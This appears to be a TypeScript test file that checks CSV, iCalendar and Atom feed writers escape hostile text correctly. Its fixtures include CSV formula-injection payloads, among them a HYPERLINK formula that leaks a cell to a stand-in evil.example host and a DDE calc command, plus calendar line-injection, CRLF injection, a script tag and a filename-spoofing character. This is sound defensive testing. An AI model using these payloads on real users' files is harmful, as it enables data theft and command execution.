/**
 * The writers on their own, fed hostile text directly (whatever the data check would let through):
 * each output is parsed back with a real parser and must give back exactly the records written.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import ical, { type VEvent } from 'node-ical';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv } from '../../src/domain/csv.ts';
import { atomFeed } from '../../src/domain/feeds/atom.ts';
import { icsCalendar } from '../../src/domain/feeds/ics.ts';
import { escapeXml } from '../../src/domain/xml.ts';
import { strictXmlTexts as parseXmlStrict } from '../support/strict-xml.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV', () => {
  it('prefixes every formula-looking text cell with an apostrophe, and leaves numbers and plain text alone', () => {
    expect(FORMULAS.map(neutraliseCell)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell('Bộ Khoa học và Công nghệ')).toBe('Bộ Khoa học và Công nghệ');
    expect(neutraliseCell("'quoted")).toBe("'quoted");
  });

  it('quotes a cell holding LF, CR or CRLF, so a parser gets back one record per row', () => {
    const rows = [
      ['id', 'note', 'n'],
      ['a', 'line one\nline two', 1],
      ['b', 'bare\rCR', 2],
      ['c', 'crlf\r\nhere, "quoted"', 3],
      ...FORMULAS.map((f, i) => [`f${i}`, f, i]),
    ];
    const csv = toCsv(rows);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('"line one\nline two"');
    expect(csv).toContain('"bare\rCR"');
    const back: string[][] = parseCsv(csv, { bom: true, record_delimiter: '\r\n' });
    expect(back).toHaveLength(rows.length);
    expect(back.every((r) => r.length === 3)).toBe(true);
    expect(back[1]).toEqual(['a', 'line one\nline two', '1']);
    expect(back[2]).toEqual(['b', 'bare\rCR', '2']);
    expect(back[3]).toEqual(['c', 'crlf\r\nhere, "quoted"', '3']);
    expect(back.slice(4).map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
  });
});

describe('iCalendar', () => {
  const forged = 'Hạn chót\rEND:VEVENT\rBEGIN:VEVENT\rUID:evil';
  const events = [
    { uid: 'a@x', date: '2026-06-30', summary: forged, description: 'a\\b;c,d\ne\r\nf\u0001g', url: 'https://x.example/a' },
    { uid: 'b@x', date: '2026-07-01', summary: 'Ủy ban '.repeat(40), description: '', url: 'https://x.example/b\r\nX-EVIL:1' },
  ];
  const ics = icsCalendar('Lịch; hạn, chót', '2026-03-13', events);

  it('escapes every line break form, backslash, comma and semicolon, and drops control characters', () => {
    expect(ics).toContain('SUMMARY:Hạn chót\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:evil');
    expect(ics).toContain('DESCRIPTION:a\\\\b\\;c\\,d\\ne\\nf\uFFFDg');
    expect(ics).toContain('X-WR-CALNAME:Lịch\\; hạn\\, chót');
    expect(ics).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
    expect(ics).not.toMatch(/^X-EVIL/m);
  });

  it('folds every line at 75 octets', () => {
    const lines = ics.split('\r\n');
    expect(lines.filter((l) => l.startsWith('SUMMARY:Ủy')).length).toBe(1);
    for (const line of lines) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
  });

  it('gives a real parser exactly the events written, with their text', () => {
    const parsed = Object.values(ical.sync.parseICS(ics)).filter((c): c is VEvent => c?.type === 'VEVENT');
    expect(parsed.map((e) => e.uid)).toEqual(['a@x', 'b@x']);
    expect(parsed[0]!.summary).toBe('Hạn chót\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil');
    expect(parsed[0]!.description).toBe('a\\b;c,d\ne\nf\uFFFDg');
    expect(parsed[1]!.summary).toBe('Ủy ban '.repeat(40));
  });
});

describe('Atom and XML', () => {
  it('replaces the characters XML 1.0 forbids and keeps the rest', () => {
    expect(escapeXml('a\u0001b\u001Fc\uFFFEd\uFFFFe\uD800f\tg\nh😀<&>"\'')).toBe(
      'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\tg\nh😀&lt;&amp;&gt;&quot;&apos;',
    );
  });

  it('writes a feed a strict XML parser reads, with the text given back', () => {
    const hostile = 'Nhiệm vụ\u0001\u0008\u000B\u001F\uFFFE <script>alert(1)</script> & ]]> \u202Egnp.exe';
    const xml = atomFeed({
      id: 'tag:x,2025:feed',
      title: hostile,
      link: 'https://x.example/?a=1&b=2',
      selfLink: 'https://x.example/feed.atom',
      fallbackUpdated: '2026-03-13',
      lang: 'vi',
      entries: [
        {
          id: 'tag:x,2025:e1',
          title: hostile,
          updated: '2026-03-01',
          link: 'https://x.example/e1',
          summary: `line\r\nbreak ${hostile}`,
          lang: 'vi',
        },
      ],
    });
    const texts = parseXmlStrict(xml);
    const expected = 'Nhiệm vụ\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD <script>alert(1)</script> & ]]> \u202Egnp.exe';
    expect(texts.get('title')).toEqual([expected, expected]);
    expect(texts.get('summary')).toEqual([`line\nbreak ${expected}`]);
  });

  it('is what the strict parser refuses without the replacement', () => {
    expect(() => parseXmlStrict('<a>\u0001</a>')).toThrow();
  });
});
